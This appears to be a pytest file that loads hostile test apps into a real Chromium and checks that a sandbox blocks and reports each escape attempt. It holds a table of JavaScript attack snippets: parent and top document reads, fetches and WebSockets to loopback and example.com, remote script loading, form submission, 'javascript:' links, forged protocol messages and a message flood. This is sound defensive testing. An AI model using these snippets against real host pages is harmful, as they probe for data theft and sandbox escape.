"""Hostile apps in a real Chromium: none gets out, and each is reported.

One browser shows all of them, one after the other. Each app does the handshake, tries something, and logs how it went.
"""

import asyncio
import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import msgspec
import pytest

from inspector.features.apps.browser import Browser, BrowserTab, find_browser
from inspector.features.apps.host import MOST_MESSAGE, ViewState
from inspector.features.apps.site import AppSite
from inspector.protocol.frames import Direction, Frame
from tests.features.apps.hosting import View, app, hosted
from tests.waiting import until

_PAGE = """<!doctype html>
<title>app</title>
<script>
const send = (message) => parent.postMessage({ jsonrpc: "2.0", ...message }, "*");
const tell = (data) => send({ method: "notifications/message", params: { level: "info", data: `outcome: ${data}` } });
const answer = (id) => new Promise((done) => {
  addEventListener("message", ({ data }) => {
    if (data.id === id) done(data.error?.message ?? JSON.stringify(data.result));
  });
});
const asks = async (method, params, id = "q") => {
  const got = answer(id);
  send({ id, method, params });
  return await got;
};
const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const loaded = (element, place) => new Promise((done) => {
  element.onload = element.onopen = () => done("loaded");
  element.onerror = () => done("not loaded");
  place?.append(element);
});
const attack = async () => { ATTACK };
addEventListener("message", async ({ data }) => {
  if (data.id !== "i") return;
  send({ method: "ui/notifications/initialized" });
  try { tell(await attack()); } catch (e) { tell(`refused ${e.name}`); }
});
send({ id: "i", method: "ui/initialize", params: {
  appInfo: { name: "x", version: "1" }, appCapabilities: {}, protocolVersion: "2026-01-26",
} });
</script>
"""


class Attack(msgspec.Struct, frozen=True):
    """What an app tries, and what shows that it failed."""

    script: str
    outcome: str
    """Beginning of what the app logs; "" if it can't log any more."""
    reported: str = ""
    """Part of a notice that the user gets; "" if the browser refuses silently."""


_SECURITY = "refused SecurityError"
ATTACKS = {
    "reads the parent": Attack("return parent.document.title", _SECURITY),
    "reads the page": Attack("return top.document.title", _SECURITY),
    "reads the token": Attack("return [document.referrer, document.baseURI.length < 40].join()", ",true"),
    "fetches from loopback": Attack(
        "return (await fetch('http://127.0.0.1:PORT/')).status", "refused TypeError", "connect-src does not allow it"
    ),
    "fetches from the network": Attack(
        "return (await fetch('https://example.com/')).status", "refused TypeError", "blocked https://example.com/"
    ),
    "opens a socket": Attack(
        "return await loaded(new WebSocket('ws://127.0.0.1:PORT/'))", "not loaded", "connect-src does not allow it"
    ),
    "loads a picture": Attack(
        "const i = new Image(); i.src = 'http://127.0.0.1:PORT/x.png'; return await loaded(i)",
        "not loaded",
        "img-src does not allow it",
    ),
    "loads a script": Attack(
        "const s = document.createElement('script'); s.src = 'https://example.com/x.js';"
        " return await loaded(s, document.head)",
        "not loaded",
        "script-src-elem does not allow it",
    ),
    "nests a frame": Attack(
        "const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:PORT/'; document.body.append(f);"
        " await pause(300); return 'done'",
        "done",
        "frame-src does not allow it",
    ),
    "submits a form": Attack(
        "const f = document.createElement('form'); f.action = 'http://127.0.0.1:PORT/'; document.body.append(f);"
        " f.submit(); await pause(300); return 'done'",
        "",
        "form-action does not allow it",
    ),
    "navigates the page": Attack("top.location = 'https://example.com/'; return 'done'", _SECURITY),
    "opens a window": Attack("return String(open('https://example.com/'))", "null", "a new window"),
    "uses storage": Attack("localStorage.x = 1; return 'stored'", _SECURITY, "localStorage"),
    "sets a cookie": Attack("document.cookie = 'a=1'; return 'stored'", _SECURITY, "cookie"),
    "opens a database": Attack("indexedDB.open('x'); return 'opened'", _SECURITY, "indexedDB"),
    "starts a service worker": Attack(
        "return await navigator.serviceWorker.register('/x.js')", _SECURITY, "serviceWorker"
    ),
    "writes the clipboard": Attack(
        "await navigator.clipboard.writeText('x'); return 'written'", "refused NotAllowedError", "clipboard"
    ),
    "downloads a file": Attack(
        "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; a.click(); return 'done'",
        "done",
        "a download",
    ),
    "asks in a dialog": Attack("return String(confirm('password?'))", "false", "confirm()"),
    "calls a tool for models": Attack(
        "return await asks('tools/call', { name: 'for_model' })",
        "an app may not call",
        "visibility does not include app",
    ),
    "calls a destructive tool": Attack(
        "return await asks('tools/call', { name: 'erase' })", "Tool call denied", "which the user denies"
    ),
    "opens a link to a script": Attack(
        "return await asks('ui/open-link', { url: 'javascript:alert(1)' })", "Invalid URL", "other than http or https"
    ),
    "forges the sandbox": Attack(
        "send({ method: 'ui/notifications/sandbox-proxy-ready' }); return 'sent'", "sent", "only the sandbox may send"
    ),
    "sends what is no JSON": Attack("parent.postMessage(10n, '*'); return 'sent'", "sent", "not JSON"),
    "forges responses": Attack(
        "for (let i = 0; i < 5; i++) send({ id: `teardown-${i}`, result: {} }); return 'sent'",
        "sent",
        "which no request has",
    ),
    "uses an id twice": Attack("send({ id: 'q', method: 'ping' }); return await asks('ping', {})", "{}"),
    "sends a long message": Attack(
        f"send({{ method: 'notifications/message', params: {{ data: 'x'.repeat({MOST_MESSAGE}) }} }}); return 'sent'",
        "sent",
        "at most",
    ),
}  # fmt: skip


@asynccontextmanager
async def _shown(browser: Browser, script: str) -> AsyncIterator[tuple[View, BrowserTab, AppSite]]:
    async with hosted() as view:
        async with AppSite(view.host, "test") as site:
            html = _PAGE.replace("ATTACK", script.replace("PORT", str(site.ports[0])))
            view.host.app = app(html)
            tab = await browser.open(site.url, 800, 600)
            yield view, tab, site
            await view.host.end("over")


def _outcome(view: View) -> str:
    said = [each.text for each in view.notices if "outcome: " in each.text]
    return said[0].partition("outcome: ")[2] if said else ""


async def _has_failed(name: str, attack: Attack, view: View) -> None:
    if attack.outcome:
        await until(lambda: _outcome(view), f"the app that {name} has an outcome")
    assert _outcome(view).startswith(attack.outcome), (name, _outcome(view))
    if attack.reported:
        said = [each.text for each in view.notices]
        await until(lambda: any(attack.reported in each.text for each in view.notices), f"{name} is reported: {said}")


@pytest.mark.slow
async def test_no_hostile_app_gets_out_and_each_is_reported() -> None:
    async with Browser(find_browser(os.environ), os.environ) as browser:
        for name, attack in ATTACKS.items():
            async with _shown(browser, attack.script) as (view, tab, site):
                await _has_failed(name, attack, view)
                assert (await tab.evaluate("location.href")) == site.url, name
                assert view.host.state is ViewState.READY, name


@pytest.mark.slow
async def test_app_that_navigates_away_or_floods_is_stopped() -> None:
    async with Browser(find_browser(os.environ), os.environ) as browser:
        many = "for (let i = 0; i < 100000; i++) send({ method: 'notifications/message', params: { data: i } });"
        async with _shown(browser, f"{many} return 1") as (view, _, _):
            await until(lambda: any("dropped" in each.text for each in view.notices), "the flood is reported")
            journal = view.host.session.journal
            kept = [journal.store.direction(n) for n in range(1, journal.count + 1)].count(Direction.FROM_VIEW)
            assert kept < 5000
            await asyncio.wait_for(view.host.session.call("ping"), 60)
        away = "location = 'data:text/html,away'; await new Promise((done) => setTimeout(done, 200)); return 'here'"
        async with _shown(browser, away) as (view, _, _):
            reported = ("navigated away", "frame-src")
            await until(
                lambda: _outcome(view) or any(part in each.text for each in view.notices for part in reported),
                "the navigation is stopped or reported",
            )
            frames = map(view.host.session.journal.store.entry, range(1, view.host.session.journal.count + 1))
            assert not any(b"away" in each.what.payload[-9:] for each in frames if isinstance(each.what, Frame))
